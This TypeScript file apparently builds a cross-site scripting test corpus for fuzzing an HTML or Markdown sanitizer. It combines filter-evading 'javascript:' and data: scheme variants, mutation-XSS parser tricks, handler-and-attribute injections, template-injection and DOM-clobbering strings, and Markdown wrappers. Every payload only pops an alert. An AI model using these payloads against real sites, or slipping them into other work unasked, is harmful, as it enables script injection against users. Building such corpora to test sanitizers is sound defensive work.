// What public collections of cross-site scripting are made of, as parts: elements that run or load something, attributes that do, ways
// to write a scheme that runs, and texts by which browsers read another tree than filters do. The texts are put together here.

const elements =
  "a abbr animate annotation-xml applet area audio base bdo bgsound body button custom-element desc details embed fieldset font foreignObject form frameset iframe image img input isindex keygen link listing malignmark map marquee math meta mglyph mtext noembed noframes noscript object option plaintext portal script select set slot style svg table td template textarea title use video xmp".split(
    " ",
  );
const handlers =
  "onerror onload onclick onfocus onmouseover ontoggle onbegin onend onrepeat onanimationstart ontransitionend onpointerover onwheel onauxclick onbeforeinput onbeforetoggle oncopy ondrag onhashchange oninvalid onmessage onpageshow onscroll onscrollend onsearch onselectstart onsecuritypolicyviolation onstart onunhandledrejection".split(
    " ",
  );
const attributes =
  "src href xlink:href action formaction data poster background srcdoc style id name is slot target ping".split(
    " ",
  );

/** Schemes that run, written so that filters miss them. */
export const runningSchemes: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "javascript&colon;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1)",
  "&#x6a;avascript:alert(1)",
  "&#0000106avascript:alert(1)",
  "javascript%3aalert(1)",
  "%6aavascript:alert(1)",
  "\\u006aavascript:alert(1)",
  "javascript://a.example/%0aalert(1)",
  "javascript:/*https://a.example*/alert(1)",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "jar:https://a.example!/x",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "DATA:,a",
  "blob:https://a.example/1",
  "filesystem:https://a.example/1",
  "file:///etc/passwd",
  "intent://a#Intent;end",
  "//a.example/x",
  "\\\\a.example\\x",
  "ｊavascript:alert(1)",
];

/** Texts that browsers read as another tree than they are written as. */
const trees: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  "<template><s><template><s><img src=x onerror=alert(1)>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--!> <img src=x onerror=alert(1)> -->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><a:script xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>',
  '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=alert(1)>">]>&a;',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  '<img """><script>alert(1)</script>">',
  "<img src=x:alert(alt) onerror=eval(src) alt=1",
  '<a/href="javascript:alert(1)"/>a',
  "<svg/onload=&#97&#108&#101&#114&#116(1)>",
  "</title></style></textarea></script><svg onload=alert(1)>",
  "<script\u000c>alert(1)</script\u000c>",
  "<script\u2028>alert(1)</script>",
  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "`<img src=x onerror=alert(1)>``",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= alert(1) %>",
  "<a name=body id=cookie>",
  "<form id=document><input name=body>",
];

/** Hostile HTML, piece by piece: one for each part above. */
export const hostileHtml: readonly string[] = [
  ...trees,
  ...elements.flatMap((element, nth) => {
    const handler = handlers[nth % handlers.length] ?? "";
    const attribute = attributes[nth % attributes.length] ?? "";
    const scheme = runningSchemes[nth % runningSchemes.length] ?? "";
    return [
      `<${element} ${handler}=alert(1)>`,
      `<${element}/${handler}="alert(1)" ${attribute}='${scheme}'>a</${element}>`,
      `"><${element} ${attribute}="${scheme}" autofocus tabindex=1 ${handler}=alert\`1\`>`,
    ];
  }),
  ...handlers.map((handler) => `a" ${handler}="alert(1)" x="`),
  ...attributes.map((attribute) => `a' ${attribute}='javascript:alert(1)' x='`),
];

/** Every place of Markdown in which a text can stand. */
export const placesInMarkdown: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `> 1. ${text}`,
  (text) => `# ${text}`,
  (text) => `[a](${text})`,
  (text) => `[a](<${text}>)`,
  (text) => `[a](https://a.example/${text})`,
  (text) => `[a](https://a.example "${text}")`,
  (text) => `[a](https://a.example '${text}')`,
  (text) => `[${text}](https://a.example)`,
  (text) => `![${text}](https://a.example/a.png)`,
  (text) => `![a](${text})`,
  (text) => `<${text}>`,
  (text) => `<https://a.example/${text}>`,
  (text) => `https://a.example/${text}`,
  (text) => `[a]: ${text}\n\n[a]`,
  (text) => `[a]: https://a.example "${text}"\n\n[a]`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `\`${text}\` *${text}* **${text}** ~~${text}~~`,
  (text) => `a|b\n-|-\n${text}|${text}`,
];
